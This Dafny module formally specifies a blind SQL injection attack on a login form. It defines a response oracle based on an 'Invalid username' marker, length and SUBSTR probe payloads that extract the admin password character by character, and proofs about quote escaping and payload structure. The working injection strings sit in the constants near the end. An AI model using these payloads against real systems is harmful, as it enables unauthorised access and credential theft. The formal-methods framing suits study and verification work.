/**
 * The login endpoint as the script sees it. Every HTTP POST becomes one
 * application of a `Server` to the submitted form; the script only ever
 * looks at the status code and the body text of what comes back.
 */
module Oracle {
  import opened Text

  /** The two form fields every request submits. */
  datatype Form = Form(username: string, password: string)

  /** What the script reads from a response. */
  datatype Response = Response(status: int, text: string)

  /** The endpoint: one response per submitted form, always the same one for the same form. */
  type Server = Form -> Response

  const Admin: string := "admin"
  /** The password field sent with every injected query. */
  const ProbePassword: string := "x"
  /** Present in the body when the injected condition was false. */
  const InvalidMarker: string := "Invalid username"
  /** Present in the body after a successful login as the administrator. */
  const Greeting: string := "Hello, admin!"

  /** The verdict of an injected query: status 200 and no "Invalid username" in the body. */
  predicate ConditionTrue(r: Response): (b: bool)
    ensures b <==> r.status == 200 && forall i :: !OccursAt(r.text, InvalidMarker, i)
  {
    r.status == 200 && !Contains(r.text, InvalidMarker)
  }

  /** The verdict of the final login attempt: the greeting appears in the body. */
  predicate LoginGreets(r: Response): (b: bool)
    ensures b <==> exists i :: OccursAt(r.text, Greeting, i)
  {
    Contains(r.text, Greeting)
  }

  /** A 200 response without the marker is a true verdict; any other response is false. */
  lemma ConditionTrueCases(r: Response, before: string, after: string)
    ensures r.status != 200 ==> !ConditionTrue(r)
    ensures r.text == before + InvalidMarker + after ==> !ConditionTrue(r)
    ensures r.status == 200 && (forall i :: !OccursAt(r.text, InvalidMarker, i)) ==> ConditionTrue(r)
  {
    if r.text == before + InvalidMarker + after {
      ContainsInside(before, InvalidMarker, after);
    }
  }

  /** Any body with the greeting in it, whatever the status, counts as a successful login. */
  lemma GreetingAnywhere(status: int, before: string, after: string)
    ensures LoginGreets(Response(status, before + Greeting + after))
  {
    ContainsInside(before, Greeting, after);
  }

  /**
   * The server's verdict on an injected username, sent with the throwaway
   * password: true exactly when the page comes back with status 200 and
   * without "Invalid username" anywhere in it.
   */
  predicate Verdict(server: Server, payload: string): (b: bool)
    ensures b <==> var r := server(Form(payload, ProbePassword));
      r.status == 200 && forall i :: !OccursAt(r.text, InvalidMarker, i)
  {
    ConditionTrue(server(Form(payload, ProbePassword)))
  }

  /** Doubles every single quote, as Python's `s.replace("'", "''")` does. */
  function Escape(s: string): (r: string)
    ensures |r| >= |s|
    ensures '\'' !in s ==> r == s
    decreases |s|
  {
    if s == [] then []
    else
      assert s == [s[0]] + s[1..];
      (if s[0] == '\'' then "''" else [s[0]]) + Escape(s[1..])
  }

  /** Escaping a single character: a quote becomes two quotes, anything else stays. */
  lemma EscapeChar(c: char)
    ensures Escape([c]) == if c == '\'' then "''" else [c]
  {
    assert Escape([c]) == (if c == '\'' then "''" else [c]) + Escape([]);
  }

  /** Escaping works character by character: it distributes over concatenation. */
  lemma {:induction false} EscapeAppend(a: string, b: string)
    ensures Escape(a + b) == Escape(a) + Escape(b)
    decreases |a|
  {
    if a == [] {
      assert a + b == b;
    } else {
      assert (a + b)[1..] == a[1..] + b;
      EscapeAppend(a[1..], b);
    }
  }

  /** Escaping lengthens the text by exactly one character per quote in it. */
  lemma {:induction false} EscapeLength(s: string)
    ensures |Escape(s)| == |s| + multiset(s)['\'']
    decreases |s|
  {
    if s != [] {
      assert s == [s[0]] + s[1..];
      assert multiset(s) == multiset([s[0]]) + multiset(s[1..]);
      EscapeLength(s[1..]);
    }
  }

  /** How an SQL string literal body reads back: a doubled quote stands for one quote. */
  function Unescape(t: string): string
    decreases |t|
  {
    if t == [] then []
    else if |t| >= 2 && t[0] == '\'' && t[1] == '\'' then "'" + Unescape(t[2..])
    else [t[0]] + Unescape(t[1..])
  }

  /** The escaped literal denotes exactly the original string. */
  lemma {:induction false} UnescapeEscape(s: string)
    ensures Unescape(Escape(s)) == s
    decreases |s|
  {
    if s != [] {
      UnescapeEscape(s[1..]);
      if s[0] == '\'' {
        assert ("''" + Escape(s[1..]))[2..] == Escape(s[1..]);
      } else {
        assert ([s[0]] + Escape(s[1..]))[1..] == Escape(s[1..]);
      }
    }
  }

  const LengthPrefix: string := "admin' AND (SELECT LENGTH(password) FROM users WHERE username='admin')="
  const PayloadEnd: string := " --"
  const SubstrPrefix: string := "admin' AND SUBSTR((SELECT password FROM users WHERE username='admin'), "
  const SubstrMiddle: string := ", 1)='"
  const LiteralEnd: string := "' --"

  /**
   * The injected username that asks whether the stored password has `n`
   * characters: the fixed prefix, the digits of `n`, then the comment marker.
   */
  function LengthPayload(n: nat): (r: string)
    ensures |r| == |LengthPrefix| + |Decimal(n)| + |PayloadEnd|
  {
    LengthPrefix + Decimal(n) + PayloadEnd
  }

  /**
   * The layout of a length query: the fixed prefix, a run of digits that
   * reads back as `n`, and the comment marker.
   */
  lemma LengthPayloadLayout(n: nat)
    ensures var r := LengthPayload(n);
      && r[..|LengthPrefix|] == LengthPrefix && r[|r| - |PayloadEnd|..] == PayloadEnd
      && AllDigits(r[|LengthPrefix|..|r| - |PayloadEnd|])
      && ParseDecimal(r[|LengthPrefix|..|r| - |PayloadEnd|]) == n
  {
    ParseDecimalOfDecimal(n);
    assert (LengthPrefix + Decimal(n) + PayloadEnd)[|LengthPrefix|..|LengthPrefix| + |Decimal(n)|] == Decimal(n);
  }

  /**
   * The injected username that asks whether the character at 1-based
   * `position` of the stored password equals the SQL literal `literal`.
   */
  function CharPayload(position: nat, literal: string): (r: string)
    ensures |r| == |SubstrPrefix| + |Decimal(position)| + |SubstrMiddle| + |literal| + |LiteralEnd|
  {
    SubstrPrefix + Decimal(position) + SubstrMiddle + literal + LiteralEnd
  }

  /**
   * The layout of a character query: the fixed prefix, the digits of the
   * position, the opening of the literal, the literal, its closing quote and
   * the comment marker.
   */
  lemma CharPayloadLayout(position: nat, literal: string)
    ensures var r := CharPayload(position, literal);
      var k := |SubstrPrefix| + |Decimal(position)|;
      && r[..|SubstrPrefix|] == SubstrPrefix
      && AllDigits(r[|SubstrPrefix|..k])
      && ParseDecimal(r[|SubstrPrefix|..k]) == position
      && r[k..k + |SubstrMiddle|] == SubstrMiddle
      && r[k + |SubstrMiddle|..|r| - |LiteralEnd|] == literal
      && r[|r| - |LiteralEnd|..] == LiteralEnd
  {
    ParseDecimalOfDecimal(position);
    FiveParts(SubstrPrefix, Decimal(position), SubstrMiddle, literal, LiteralEnd);
  }

  /** Different lengths are asked with different queries. */
  lemma LengthPayloadInjective(n: nat, m: nat)
    ensures LengthPayload(n) == LengthPayload(m) ==> n == m
  {
    if LengthPayload(n) == LengthPayload(m) {
      LengthPayloadParts(n);
      LengthPayloadParts(m);
      CancelPrefix(LengthPrefix, Decimal(n) + PayloadEnd, Decimal(m) + PayloadEnd);
      DigitRunSplit(Decimal(n), PayloadEnd, Decimal(m), PayloadEnd);
      DecimalInjective(n, m);
    }
  }

  lemma LengthPayloadParts(n: nat)
    ensures LengthPayload(n) == LengthPrefix + (Decimal(n) + PayloadEnd)
  {
  }

  /** Different (position, literal) pairs are asked with different queries. */
  lemma CharPayloadInjective(p1: nat, l1: string, p2: nat, l2: string)
    ensures CharPayload(p1, l1) == CharPayload(p2, l2) ==> p1 == p2 && l1 == l2
  {
    if CharPayload(p1, l1) == CharPayload(p2, l2) {
      CharPayloadParts(p1, l1);
      CharPayloadParts(p2, l2);
      CancelPrefix(SubstrPrefix, Decimal(p1) + CharPayloadTail(l1), Decimal(p2) + CharPayloadTail(l2));
      DigitRunSplit(Decimal(p1), CharPayloadTail(l1), Decimal(p2), CharPayloadTail(l2));
      DecimalInjective(p1, p2);
      CancelPrefix(SubstrMiddle, l1 + LiteralEnd, l2 + LiteralEnd);
      CancelSuffix(l1, l2, LiteralEnd);
    }
  }

  /** What follows the position number in a character query. */
  function CharPayloadTail(literal: string): (t: string)
    ensures |t| > 0 && !IsDigit(t[0])
  {
    SubstrMiddle + (literal + LiteralEnd)
  }

  lemma CharPayloadParts(position: nat, literal: string)
    ensures CharPayload(position, literal) == SubstrPrefix + (Decimal(position) + CharPayloadTail(literal))
  {
  }

  /**
   * A length query is never a character query: four characters from the end
   * the first has the last digit of the length, the second the closing quote
   * of the literal.
   */
  lemma PayloadKindsDiffer(n: nat, position: nat, literal: string)
    ensures LengthPayload(n) != CharPayload(position, literal)
  {
    var a := LengthPrefix + Decimal(n);
    var r1 := a + PayloadEnd;
    assert r1[|r1| - 4] == a[|a| - 1] == Decimal(n)[|Decimal(n)| - 1];
    var b := SubstrPrefix + Decimal(position) + SubstrMiddle + literal;
    var r2 := b + LiteralEnd;
    assert r2[|r2| - 4] == '\'';
  }
}
